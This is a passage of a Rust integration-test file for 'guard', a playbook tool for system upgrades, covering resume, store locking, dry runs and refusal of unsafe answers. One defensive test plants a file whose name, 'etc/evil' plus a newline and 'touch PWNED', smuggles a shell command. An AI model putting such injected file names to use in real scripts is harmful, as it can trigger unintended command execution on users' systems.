    let retry = "[answers]\ntarget_release = \"15.0\"\nretry-switch-repos = \"retry\"\n";
    let resume = || {
        e.guard_with(
            &["--yes", "run", "leap-upgrade", "--resume"],
            Some(retry),
            with_path,
        )
    };
    let out = resume();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert_eq!(zypper_log(), "lr -u\n");

    // The admin follows the step (the step's own sed for one file, the
    // other edited straight to the target) and resumes: the upgrade runs.
    let upd = e.root.join("etc/zypp/repos.d/repo-update.repo");
    let t = std::fs::read_to_string(&upd)
        .unwrap()
        .replace("/42.3/", "/15.0/");
    std::fs::write(&upd, t).unwrap();
    // the step's own sed
    let sed = |repo: &str| {
        let ok = Command::new("sed")
            .args([
                "-i",
                "-e",
                "s|/42.3/|/$releasever/|g",
                "-e",
                "s|_42.3/|_$releasever/|g",
            ])
            .arg(e.root.join("etc/zypp/repos.d").join(repo))
            .status()
            .unwrap();
        assert!(ok.success());
    };
    sed("repo-oss.repo");
    assert!(
        std::fs::read_to_string(e.root.join("etc/zypp/repos.d/repo-oss.repo"))
            .unwrap()
            .contains("leap/$releasever/repo/oss/")
    );
    // Packman's project still names 42.3 (openSUSE_Leap_42.3/): still no
    let out = resume();
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert_eq!(zypper_log(), "lr -u\n");
    sed("packman.repo");
    assert!(
        std::fs::read_to_string(e.root.join("etc/zypp/repos.d/packman.repo"))
            .unwrap()
            .contains("openSUSE_Leap_$releasever/")
    );
    let out = resume();
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    let j = e.journal("leap-upgrade");
    // (its check passes now, so the retried step counts as done already)
    assert_eq!(status(&j, "switch-repos"), "already-done", "{err}");
    assert!(
        zypper_log().contains("--releasever 15.0 dup\n"),
        "{}",
        zypper_log()
    );

    // A system whose repositories follow $releasever: the step is done
    // already and the walk goes straight to zypper.
    let e2 = env();
    std::fs::write(
        e2.root.join("etc/os-release"),
        "ID=opensuse-leap\nVERSION_ID=\"15.5\"\n",
    )
    .unwrap();
    leap_repos(&e2.root, "$releasever");
    std::fs::write(e2.root.join("dup-fixed"), "").unwrap();
    let out = e2.guard_with(
        &["--yes", "run", "leap-upgrade"],
        Some("[answers]\ntarget_release = \"15.6\"\n"),
        with_path,
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        status(&e2.journal("leap-upgrade"), "switch-repos"),
        "already-done"
    );
}

const LOCKED: &str = r#"
version = 1
id = "locked"
title = "a journal saved while another guard holds the store lock"

[[steps]]
id = "a"
title = "runs once; meanwhile a timer's snapshot takes the store lock for 2 s"
explain = "counts its runs"
run = ["sh", "-c", "echo ran >> \"$1\"; flock \"$2\" sleep 2 </dev/null >/dev/null 2>&1 & sleep 0.5", "sh", "{root}/a-log", "{store}/lock"]

[[steps]]
id = "b"
title = "fails until fixed"
explain = "x"
run = ["test", "-e", "{root}/b-ok"]
"#;

/// A step that ran is recorded even when another guard (the snapshot timer
/// after a reboot) holds the store lock at that moment: the save waits, and
/// --resume does not run the step again.
#[test]
fn a_step_that_ran_is_journalled_while_the_store_is_locked() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/locked.toml"), LOCKED).unwrap();
    let out = e.guard(&["--yes", "run", "locked"], None);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("step b (fails until fixed) failed"), "{err}");
    assert!(err.contains("waiting up to 60 s"), "{err}");
    assert_eq!(status(&e.journal("locked"), "a"), "done", "{err}");

    std::fs::write(e.root.join("b-ok"), "").unwrap();
    let out = e.guard(
        &["--yes", "run", "locked", "--resume"],
        Some("[answers]\nretry-b = \"retry\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(e.root.join("a-log")).unwrap(),
        "ran\n",
        "a step that had run ran again after --resume"
    );
}

const TARGETED: &str = r#"
version = 1
id = "targeted"
title = "an answer later steps rely on"

[[steps]]
id = "target"
title = "the volume"
explain = "x"
ask = { var = "target", prompt = "Target volume?", kind = "path" }

[[steps]]
id = "target-check"
title = "checks the target; fails until fixed"
explain = "x"
run = ["test", "-e", "{root}/ok"]

[[steps]]
id = "format"
title = "uses the target"
explain = "x"
run = ["sh", "-c", "echo \"$1\" >> \"$2\"", "sh", "{target}", "{root}/formatted"]
"#;

/// On resume, a new answers file cannot change an answer the walk already
/// recorded: a different target would reach the format step unchecked.
#[test]
fn resume_refuses_a_changed_answer_to_a_done_question() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/targeted.toml"), TARGETED).unwrap();
    let out = e.guard(
        &["--yes", "run", "targeted"],
        Some("[answers]\ntarget = \"/dev/a\"\n"),
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    std::fs::write(e.root.join("ok"), "").unwrap();

    let out = e.guard(
        &["--yes", "run", "targeted", "--resume"],
        Some("[answers]\ntarget = \"/dev/b\"\nretry-target-check = \"retry\"\n"),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains("already recorded target = \"/dev/a\""),
        "{err}"
    );
    assert!(!e.root.join("formatted").exists(), "{err}");

    // The recorded answer (given again, or left out) goes on.
    let out = e.guard(
        &["--yes", "run", "targeted", "--resume"],
        Some("[answers]\ntarget = \"/dev/a\"\nretry-target-check = \"retry\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(e.root.join("formatted")).unwrap(),
        "/dev/a\n"
    );
}

const REOPEN: &str = r#"
version = 1
id = "reopen"
title = "a step a reboot undoes"

[[steps]]
id = "open"
title = "opens the volume (a reboot locks it again)"
explain = "counts its runs"
done-if = { run = ["test", "-e", "{root}/opened"] }
run = ["sh", "-c", "touch \"$1\"; echo ran >> \"$2\"", "sh", "{root}/opened", "{root}/open-log"]

[[steps]]
id = "use"
title = "needs the open volume; fails until fixed"
explain = "x"
run = ["test", "-e", "{root}/use-ok"]
"#;

/// A done step whose `done-if` no longer holds on resume (a reboot locked
/// the LUKS volume again) is done again; one that still holds is not.
#[test]
fn resume_redoes_a_done_step_a_reboot_undid() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/reopen.toml"), REOPEN).unwrap();
    let log = || std::fs::read_to_string(e.root.join("open-log")).unwrap();
    let out = e.guard(&["--yes", "run", "reopen"], None);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert_eq!(log(), "ran\n");

    // Still open: not done again (the walk stops at the failed step).
    let out = e.guard(&["--yes", "run", "reopen", "--resume"], None);
    assert!(
        text(&out.stderr).contains("not retried"),
        "{}",
        text(&out.stderr)
    );
    assert_eq!(log(), "ran\n");

    // A reboot locked it again: resume opens it before going on.
    std::fs::remove_file(e.root.join("opened")).unwrap();
    std::fs::write(e.root.join("use-ok"), "").unwrap();
    let out = e.guard(
        &["--yes", "run", "reopen", "--resume"],
        Some("[answers]\nretry-use = \"retry\"\n"),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("step open was done, but its check no longer holds"),
        "{err}"
    );
    assert_eq!(log(), "ran\nran\n");
    assert!(e.root.join("opened").exists());
    assert_eq!(status(&e.journal("reopen"), "open"), "done");
}

/// Holds the store lock from another process (`flock`, as a timer's
/// snapshot would) for `$3` seconds, and returns once it is held; exits 1
/// so that, as a step's `done-if`, the step itself then runs under the lock.
const HOLD_LOCK: &str = r#"["sh", "-c", '''
flock "$1" sh -c 'touch "$0"; sleep "$1"' "$2" "$3" </dev/null >/dev/null 2>&1 &
while [ ! -e "$2" ]; do sleep 0.05; done
rm -f "$2"
exit 1
''', "sh", "{store}/lock", "{root}/held", "SECS"]"#;

const SNAPLOCK: &str = r#"
version = 1
id = "snaplock"
title = "builtins while another guard holds the store lock"

[[steps]]
id = "a"
title = "runs before"
explain = "x"
run = ["sh", "-c", "echo ran >> \"$1\"", "sh", "{root}/a-log"]

[[steps]]
id = "snapshot"
title = "the walk's snapshot; a timer's snapshot holds the lock as it starts"
explain = "x"
done-if = { run = HOLD }
builtin = "snapshot"
with = { label = "walk" }

[[steps]]
id = "lose"
title = "a file vanishes"
explain = "x"
run = ["rm", "{root}/etc/motd"]

[[steps]]
id = "restore"
title = "restore; the lock is held again as it starts"
explain = "x"
done-if = { run = HOLD }
builtin = "restore"
with = { from = "{snapshot_id}" }
"#;

fn snaplock(e: &Env, secs: &str) {
    std::fs::write(e.root.join("etc/motd"), "hello\n").unwrap();
    std::fs::create_dir_all(&e.store).unwrap();
    std::fs::write(
        e.root.join("etc/guard/playbooks/snaplock.toml"),
        SNAPLOCK.replace("HOLD", &HOLD_LOCK.replace("SECS", secs)),
    )
    .unwrap();
}

/// The `snapshot` and `restore` builtins wait (bounded, saying so) while
/// another guard holds the store lock, as the journal save does, instead of
/// stopping the walk halfway.
#[test]
fn snapshot_and_restore_steps_wait_for_the_store_lock() {
    let e = env();
    snaplock(&e, "2");
    let out = e.guard(&["--yes", "run", "snaplock"], None);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert!(
        err.contains("the store is locked by another guard process (a timer's snapshot?); waiting up to 60 s to take the snapshot of step snapshot"),
        "{err}"
    );
    assert!(
        err.contains("waiting up to 60 s to restore (step restore)"),
        "{err}"
    );
    let j = e.journal("snaplock");
    for id in ["a", "snapshot", "lose", "restore"] {
        assert_eq!(status(&j, id), "done", "{id}: {err}");
    }
    assert_eq!(
        std::fs::read_to_string(e.root.join("etc/motd")).unwrap(),
        "hello\n"
    );
}

/// Past the bound (shortened here; 60 s by default) the step fails clearly,
/// the journal keeps what was done before, and --resume goes on.
#[test]
fn a_store_lock_held_past_the_bound_fails_the_step_clearly() {
    let e = env();
    snaplock(&e, "4");
    let out = e.guard_with(&["--yes", "run", "snaplock"], None, |c| {
        c.env("GUARD_TEST_STEP_LOCK_WAIT_SECS", "1");
    });
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains("waiting up to 1 s to take the snapshot"),
        "{err}"
    );
    assert!(
        err.contains("step snapshot (the walk's snapshot; a timer's snapshot holds the lock as it starts) failed: store")
            && err.contains("is still locked by another guard process after 1 s"),
        "{err}"
    );
    let j = e.journal("snaplock");
    assert_eq!(status(&j, "a"), "done", "{err}");
    assert_eq!(status(&j, "snapshot"), "failed", "{err}");
    assert_eq!(status(&j, "lose"), "absent", "{err}");

    // The lock is free again: told to retry, the walk goes on; a does not
    // run again.
    std::fs::write(
        e.root.join("etc/guard/playbooks/snaplock.toml"),
        SNAPLOCK.replace("HOLD", &HOLD_LOCK.replace("SECS", "0")),
    )
    .unwrap();
    let out = e.guard(
        &["--yes", "run", "snaplock", "--resume"],
        Some("[answers]\nretry-snapshot = \"retry\"\n"),
    );
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert_eq!(
        std::fs::read_to_string(e.root.join("a-log")).unwrap(),
        "ran\n"
    );
}

/// Variables only guard sets cannot come from an answers file. Those the
/// builtin steps set (the walk's `snapshot_id`, the check's verdicts, the
/// LUKS sizes and header backup): a preset `snapshot_id` would point the
/// walk's check and restore at another snapshot, a preset `source_bytes`
/// would let `cmp` pass on a partial copy. And `root` and `store`, guard's
/// own `--root` and `--store`: a preset `root = "/"` would point the
/// steps' `{root}` commands at the host while guard's own steps act on
/// `--root`. Refused before any step runs, naming the key, exit 3.
#[test]
fn an_answers_file_cannot_set_a_variable_only_guard_sets() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/walk.toml"), WALK).unwrap();
    // stands in for the host: a step that ran with this root wrote here
    let elsewhere = e.base.join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let builtin = "which the walk sets itself";
    for (key, why) in [
        ("snapshot_id", builtin),
        ("check_critical", builtin),
        ("pam_vanished", builtin),
        ("source_bytes", builtin),
        ("needed_mib", builtin),
        ("luks_header_backup", builtin),
        ("root", "which guard takes from its own --root"),
        ("store", "which guard takes from its own --store"),
    ] {
        let ans = format!(
            "[answers]\nflag = \"yes\"\n{key} = \"{}\"\n",
            elsewhere.display()
        );
        for args in [&["--yes", "run", "walk"][..], &["run", "walk", "--dry-run"]] {
            let out = e.guard(args, Some(&ans));
            let err = text(&out.stderr);
            assert_eq!(out.status.code(), Some(3), "{key} {args:?}: {err}");
            assert_eq!(err.lines().count(), 1, "{key} {args:?}: one line: {err}");
            assert!(
                err.contains(&format!("sets {key}, {why}")),
                "{key} {args:?}: {err}"
            );
            assert!(out.stdout.is_empty(), "{key} {args:?}");
        }
        assert!(!e.root.join("a-log").exists(), "{key}: a step ran");
        assert!(
            !elsewhere.join("a-log").exists(),
            "{key}: a step ran outside --root"
        );
        assert!(
            !e.store.join("journals").exists(),
            "{key}: a journal was kept"
        );
    }
}

/// `--dry-run --resume` shows the rest of an unfinished walk as the resume
/// would take it: the journal's answers filled in, the steps it recorded
/// as done commented out, the failed one marked as asking for a retry, the
/// rest as they would run. It runs nothing and leaves the journal as it was;
/// without an unfinished walk it is refused like `--resume`.
#[test]
fn a_dry_run_of_a_resume_shows_what_the_resume_would_do() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/walk.toml"), WALK).unwrap();
    let out = e.guard(&["run", "walk", "--dry-run", "--resume"], None);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("no journal of walk to resume"),
        "{}",
        text(&out.stderr)
    );
    let out = e.guard(
        &["--yes", "run", "walk"],
        Some("[answers]\nflag = \"yes\"\n"),
    );
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert_eq!(status(&e.journal("walk"), "d"), "failed");
    let jpath = e.store.join("journals/walk.json");
    let before = std::fs::read(&jpath).unwrap();
    let log = std::fs::read(e.root.join("a-log")).unwrap();

    // no answers file now: the journal's `flag = yes` is what counts
    let out = e.guard(&["run", "walk", "--dry-run", "--resume"], None);
    let script = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(script.contains("#   flag = yes\n"), "{script}");
    assert!(script.contains("# resuming the walk started "), "{script}");
    // a: done, its command commented out, not to be run again
    let a = &script[script.find("(a)\n").unwrap()..script.find("(b)\n").unwrap()];
    assert!(a.contains("# recorded done ("), "{a}");
    assert!(a.contains("not run again"), "{a}");
    assert!(
        a.lines()
            .filter(|l| l.contains("a-log"))
            .all(|l| l.starts_with('#')),
        "{a}"
    );
    // d: failed, the resume asks, its command shown to run
    let d = &script[script.find("(d)\n").unwrap()..script.find("(e)\n").unwrap()];
    assert!(d.contains("# FAILED last time ("), "{d}");
    assert!(d.contains("retry-d = \"retry\""), "{d}");
    // where in the file: at its top level the key is refused as unknown
    assert!(d.contains("retry-d = \"retry\" under [answers]"), "{d}");
    assert!(
        d.lines().any(|l| !l.starts_with('#') && l.contains("d-ok")),
        "{d}"
    );
    // e: never reached, shown as it would run
    let e_step = &script[script.find("(e)\n").unwrap()..];
    assert!(!e_step.contains("# recorded"), "{e_step}");
    assert!(
        e_step
            .lines()
            .any(|l| !l.starts_with('#') && l.contains("e-ran")),
        "{e_step}"
    );
    // nothing ran, nothing changed
    assert!(!e.root.join("e-ran").exists());
    assert_eq!(std::fs::read(e.root.join("a-log")).unwrap(), log);
    assert_eq!(std::fs::read(&jpath).unwrap(), before, "journal changed");
}

/// What a resume's dry run prints of a recorded step is comment only, even
/// when its journal note spans lines: here a restore step's note names the
/// file it restored, whose name holds a newline and a command. Piped into
/// `sh`, the script must not run that line.
#[test]
fn a_dry_run_of_a_resume_comments_every_line_of_a_recorded_note() {
    let e = env();
    let pb = r#"
version = 1
id = "nl"
title = "t"

[[steps]]
id = "snap"
title = "snapshot"
explain = "x"
builtin = "snapshot"

[[steps]]
id = "rm"
title = "an upgrade deletes a file"
explain = "x"
run = ["sh", "-c", "rm -f \"$1\"/etc/evil*", "sh", "{root}"]

[[steps]]
id = "restore"
title = "restore"
explain = "x"
builtin = "restore"
with = { from = "{snapshot_id}" }

[[steps]]
id = "fail"
title = "fails"
explain = "x"
run = ["false"]
"#;
    std::fs::write(e.root.join("etc/guard/playbooks/nl.toml"), pb).unwrap();
    std::fs::write(e.root.join("etc/evil\ntouch PWNED"), "x\n").unwrap();
    let out = e.guard(&["--yes", "run", "nl"], None);
    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
    assert_eq!(status(&e.journal("nl"), "restore"), "done");
    assert!(e.root.join("etc/evil\ntouch PWNED").exists());
    let out = e.guard(&["run", "nl", "--dry-run", "--resume"], None);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let script = text(&out.stdout);
    let restore = &script[script.find("(restore)\n").unwrap()..script.find("(fail)\n").unwrap()];
    assert!(restore.contains("restored /etc/evil"), "{script}");
    let run: Vec<&str> = script
        .lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .collect();
    assert_eq!(run, ["set -eu", "false"], "{script}");
}

/// A journal whose answers set `root` or `store` (written by an older guard,
/// or edited) would override `--root`/`--store` on `--resume` like an
/// answers file would: refused the same way, naming the journal, before any
/// step runs; the journal is left as it was.
#[test]
fn resume_refuses_a_journal_that_sets_root_or_store() {
    for (key, opt) in [("root", "--root"), ("store", "--store")] {
        let e = env();
        std::fs::write(e.root.join("etc/guard/playbooks/walk.toml"), WALK).unwrap();
        // stands in for the host: a step that ran with this root wrote here
        let elsewhere = e.base.join("elsewhere");
        std::fs::create_dir_all(&elsewhere).unwrap();
        let out = e.guard(
            &["--yes", "run", "walk"],
            Some("[answers]\nflag = \"yes\"\n"),
        );
        assert_eq!(out.status.code(), Some(3), "{}", text(&out.stderr));
        assert_eq!(status(&e.journal("walk"), "d"), "failed");
        // The cause of d's failure is fixed, under both roots.
        std::fs::write(e.root.join("d-ok"), "").unwrap();
        std::fs::write(elsewhere.join("d-ok"), "").unwrap();
        let jpath = e.store.join("journals/walk.json");
        let mut j = e.journal("walk");
        j["answers"][key] = elsewhere.display().to_string().into();
        std::fs::write(&jpath, serde_json::to_vec_pretty(&j).unwrap()).unwrap();
        let before = std::fs::read(&jpath).unwrap();

        let out = e.guard(
            &["--yes", "run", "walk", "--resume"],
            Some("[answers]\nflag = \"yes\"\nretry-d = \"retry\"\n"),
        );
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{key}: {err}");
        assert_eq!(err.lines().count(), 1, "{key}: one line: {err}");
        assert!(
            err.contains(&format!(
                "the answers in journal {}: sets {key}, which guard takes from its own {opt}",
                jpath.display()
            )),
            "{key}: {err}"
        );
        assert!(out.stdout.is_empty(), "{key}");
        assert!(!e.root.join("e-ran").exists(), "{key}: a step ran");
        assert!(
            !elsewhere.join("e-ran").exists(),
            "{key}: a step ran outside --root"
        );
        assert_eq!(
            std::fs::read(&jpath).unwrap(),
            before,
            "{key}: journal changed"
        );
    }
}

/// A playbook that names `root`, `store` or a builtin's variable as an
/// `ask`'s `var`, a `probe`'s `fact` or a `[vars]` default would override
/// `--root`/`--store` or what the builtin found, with whatever was typed or
/// probed. Refused when the playbook is read, naming the step (or `[vars]`)
/// and the variable: one line, exit 3, nothing run, no journal.
#[test]
fn a_playbook_cannot_set_root_store_or_a_builtins_variable() {
    let e = env();
    // The first step would run before the offending one.
    let first = r#"
[[steps]]
id = "first"
title = "runs first"
explain = "x"
run = ["touch", "{root}/first-ran"]
"#;
    let probe = |fact: &str| {
        format!(
            "[[steps]]\nid = \"look\"\ntitle = \"x\"\nexplain = \"x\"\nrun = [\"true\"]\nprobe = {{ fact = \"{fact}\", patterns = [\"x\"] }}\n"
        )
    };
    let ask = |var: &str| {
        format!(
            "[[steps]]\nid = \"question\"\ntitle = \"x\"\nexplain = \"x\"\nask = {{ var = \"{var}\", prompt = \"?\" }}\n"
        )
    };
    let cases = [
        ("root", "--root"),
        ("store", "--store"),
        ("snapshot_id", "builtin snapshot"),
    ];
    for (var, who) in cases {
        for (head, tail, named) in [
            (
                String::new(),
                ask(var),
                format!("step question: ask sets {var}"),
            ),
            (
                String::new(),
                probe(var),
                format!("step look: probe sets {var}"),
            ),
            (
                format!("[vars]\n{var} = \"x\"\n"),
                String::new(),
                format!("[vars] sets {var}"),
            ),
        ] {
            let pb = format!("version = 1\nid = \"bad\"\ntitle = \"x\"\n{head}{first}{tail}");
            std::fs::write(e.root.join("etc/guard/playbooks/bad.toml"), &pb).unwrap();
            for args in [&["--yes", "run", "bad"][..], &["run", "bad", "--dry-run"]] {
                let out = e.guard(args, None);
                let err = text(&out.stderr);
                assert_eq!(out.status.code(), Some(3), "{named} {args:?}: {err}");
                assert_eq!(err.lines().count(), 1, "{named} {args:?}: one line: {err}");
                assert!(err.contains(&named), "{named} {args:?}: {err}");
                assert!(err.contains(who), "{named} {args:?}: {err}");
                assert!(out.stdout.is_empty(), "{named} {args:?}");
            }
            assert!(!e.root.join("first-ran").exists(), "{named}: a step ran");
            assert!(
                !e.store.join("journals").exists(),
                "{named}: a journal was kept"
            );
        }
    }
}

const ORDINARY: &str = r#"
version = 1
id = "ordinary"
title = "ordinary steps off a terminal"

[[steps]]
id = "colour"
title = "a question the answers file answers"
explain = "x"
ask = { var = "colour", prompt = "Which colour?" }

[[steps]]
id = "paint"
title = "an ordinary step"
explain = "x"
run = ["sh", "-c", "echo \"$1\" > \"$2\"", "sh", "{colour}", "{root}/painted"]

[[steps]]
id = "wipe"
title = "a destructive step"
explain = "x"
destructive = { target = "{root}/disk", what = "overwrites {root}/disk" }
run = ["touch", "{root}/wiped"]
"#;

/// DESIGN §2: `--yes` answers ordinary confirmations; an answers file
/// answers questions and its `confirm` entries confirm the destructive
/// steps they name. So off a terminal a step runs only with `--yes`, never
/// because an answers file exists, and `--yes` with a file that names
/// another step or target still leaves the destructive step refused.
#[test]
fn off_a_terminal_only_yes_confirms_an_ordinary_step() {
    let e = env();
    std::fs::write(e.root.join("etc/guard/playbooks/ordinary.toml"), ORDINARY).unwrap();
    let disk = e.root.join("disk").display().to_string();
    for ans in [
        "[answers]\ncolour = \"blue\"\n".to_string(),
        format!("confirm = [\"wipe:{disk}\"]\n[answers]\ncolour = \"blue\"\n"),
    ] {
        let out = e.guard(&["run", "ordinary"], Some(&ans));
        let err = text(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{ans}: {err}");
        assert!(
            err.contains("step colour needs confirmation and there is no terminal: pass --yes"),
            "{ans}: {err}"
        );
        assert!(!e.root.join("painted").exists(), "{ans}: {err}");
        assert!(
            e.journal("ordinary")["steps"]
                .as_array()
                .unwrap()
                .is_empty(),
            "{ans}: {err}"
        );
        std::fs::remove_dir_all(e.store.join("journals")).unwrap();
    }

    // With --yes the ordinary steps run; the destructive one needs its own
    // entry, and one for another step or target is not it.
    let out = e.guard(
        &["--yes", "run", "ordinary"],
        Some(&format!(
            "confirm = [\"paint:{disk}\", \"wipe:{disk}2\"]\n[answers]\ncolour = \"blue\"\n"
        )),
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("refusing destructive step wipe"), "{err}");
    assert_eq!(
        std::fs::read_to_string(e.root.join("painted")).unwrap(),
        "blue\n"
    );
    assert!(!e.root.join("wiped").exists(), "{err}");
    assert_eq!(status(&e.journal("ordinary"), "wipe"), "failed");
}

/// Debian's release notes upgrade in two steps: `apt upgrade
/// --without-new-pkgs` (`apt-get upgrade`: apt's interface is not for
/// scripts), then `apt full-upgrade`; never the full upgrade straight
/// after `apt update`. Neither says yes to everything (`-y`); both keep a
/// configuration file the admin modified, whose prompt would otherwise
/// read end-of-input off a terminal and fail the package.
#[test]
fn debian_upgrade_does_a_minimal_upgrade_before_the_full_one() {
    let e = env();
    let out = e.guard(&["run", "debian-upgrade", "--dry-run"], None);
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let pos = |needle: &str| {
        s.find(needle)
            .unwrap_or_else(|| panic!("{needle} missing: {s}"))
    };
    let update = pos("apt-get update\n");
    let keep = "-o Dpkg::Options::=--force-confdef -o Dpkg::Options::=--force-confold\n";
    let minimal = pos(&format!("apt-get upgrade {keep}"));
    let full = pos(&format!("apt-get full-upgrade {keep}"));
    assert!(update < minimal && minimal < full, "{s}");
    assert!(!s.contains(" -y") && !s.contains("--yes"), "{s}");
}

/// The guests `luks-guest-move` offers to move are the ones `guard-vm
/// list` finds (libvirt's built-in test driver, whose one guest is named
/// `test`): the fact read a key the listing does not have, and the
/// question said "Guests found: " with nothing after it.
#[test]
fn the_guests_found_are_the_ones_libvirt_lists() {
    let e = env();
    let out = e.guard_with(&["run", "luks-guest-move", "--dry-run"], None, |c| {
        c.env("GUARD_LIBVIRT_URI", "test:///default");
    });
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(s.contains("#   vm_guests = test\n"), "{s}");
    assert!(s.contains("Guests found: test\n"), "{s}");
    // the connection the walk is told to use is the one listed
    let out = e.guard_with(
        &["run", "luks-guest-move", "--dry-run"],
        Some("[answers]\nlibvirt_uri = \"test:///default\"\n"),
        |c| {
            c.env_remove("GUARD_LIBVIRT_URI");
        },
    );
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(s.contains("Guests found: test\n"), "{s}");
}

/// What the walk tells the admin to run next acts on the walk's root and
/// store: `guard run NAME --resume` pasted bare would look for the journal
/// in the host's default store, and the arch preflight's `find /etc` listed
/// the host's pending merges, not the root's.
#[test]
fn the_commands_a_walk_suggests_name_its_root_and_store() {
    let e = env();
    let guard = format!(
        "guard --root {} --store {} run",
        e.root.display(),
        e.store.display()
    );
    let out = e.guard(&["run", "arch-upgrade", "--dry-run"], None);
    let s = text(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        s.contains(&format!("Review, then: {guard} arch-upgrade\n")),
        "{s}"
    );
    let find = format!("#   find {}/etc -name '*.pacnew'\n", e.root.display());
    assert!(s.contains(&find), "{s}");
    assert!(!s.contains("find /etc"), "{s}");
    // the playbooks' own texts too: the reboot step's resume line
    assert!(
        s.contains(&format!(
            "Reboot now, then: {guard} arch-upgrade --resume\n"
        )),
        "{s}"
    );
    assert!(!s.contains(" guard run "), "a bare guard run: {s}");

    std::fs::write(e.root.join("etc/guard/playbooks/advice.toml"), ADVICE).unwrap();
    let out = e.guard(&["--yes", "run", "advice"], None);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(
        err.contains(&format!("when the cause is fixed, {guard} advice --resume")),
        "{err}"
    );
    let out = e.guard(&["run", "advice", "--resume", "--dry-run"], None);
    let s = text(&out.stdout);
    assert!(
        s.contains(&format!("Review, then: {guard} advice --resume\n")),
        "{s}"
    );
}

/// A stand-in for virsh: `domstate` prints ROOT/state, `shutdown` only asks
/// (the guest takes a while to go down), as the real one does.
fn fake_virsh(e: &Env) -> PathBuf {
    let bin = e.base.join("bin");
    std::fs::create_dir_all(&bin).unwrap();
    let p = bin.join("virsh");
    std::fs::write(
        &p,
        format!(
            "#!/bin/sh\ncase \"$3\" in\ndomstate) cat '{}/state' ;;\nshutdown) echo \"Domain '$4' is being shutdown\" ;;\nesac\n",
            e.root.display()
        ),
    )
    .unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    bin
}

/// A reboot between the walks autostarts the original guest: on --resume
/// the shutdown is sent again, and the walk must wait for "shut off" again
/// instead of copying the disk of a running guest.
#[test]
fn a_resumed_move_waits_again_for_a_guest_a_reboot_restarted() {
    let e = env();
    let bin = fake_virsh(&e);
    let path = format!("{}:{}", bin.display(), std::env::var("PATH").unwrap());
    let src = e.base.join("src.img");
    let answers = format!(
        "[answers]\nguest = \"mail\"\nsource = \"{}\"\ndisk_target = \"vda\"\n",
        src.display()
    );
    std::fs::write(e.root.join("state"), "shut off\n").unwrap();
    // The source is missing: the walk stops at `size`, after the guest is down.
    let out = e.guard_with(&["--yes", "run", "luks-guest-move"], Some(&answers), |c| {
        c.env("PATH", &path);
    });
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    let j = e.journal("luks-guest-move");
    assert_eq!(status(&j, "shutdown"), "already-done", "{err}");
    assert_eq!(status(&j, "size"), "failed", "{err}");

    // Reboot: the guest runs again. The resume sends the shutdown and waits.
    std::fs::write(e.root.join("state"), "running\n").unwrap();
    std::fs::File::create(&src)
        .unwrap()
        .set_len(1 << 20)
        .unwrap();
    let answers = format!("{answers}retry-size = \"retry\"\n");
    let out = e.guard_with(
        &["--yes", "run", "luks-guest-move", "--resume"],
        Some(&answers),
        |c| {
            c.env("PATH", &path);
        },
    );
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    let j = e.journal("luks-guest-move");
    assert_eq!(status(&j, "shutdown"), "done", "{err}");
    assert_eq!(status(&j, "wait-down"), "failed", "{err}");
    assert!(err.contains("verification failed"), "{err}");
    // `size` is still the failure of the first walk, not retried.
    let sizes = j["steps"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["id"] == "size")
        .count();
    assert_eq!(sizes, 1, "went on with the guest running: {err}");
    assert!(!err.contains("Retry step size"), "{err}");
}

/// A whole guest disk has a partition table and no filesystem signature at
/// its start: as a target it is someone's data, not an empty volume.
#[test]
fn a_target_with_a_partition_table_is_refused() {
    let e = env();
    let src = e.base.join("src.img");
    std::fs::File::create(&src)
        .unwrap()
        .set_len(4 << 20)
